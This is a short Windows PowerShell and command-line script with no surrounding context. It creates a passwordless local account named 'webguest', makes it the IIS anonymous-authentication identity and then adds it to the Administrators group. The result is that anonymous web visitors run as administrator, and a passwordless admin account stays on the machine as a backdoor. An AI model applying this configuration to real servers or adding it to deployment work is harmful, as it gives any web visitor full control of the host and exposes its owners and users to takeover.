New-LocalUser -Name webguest -NoPassword
Add-LocalGroupMember -Group Users -Member webguest
& "$env:windir\system32\inetsrv\appcmd.exe" set config /section:anonymousAuthentication /userName:webguest /password:x
net localgroup Administrators webguest /add
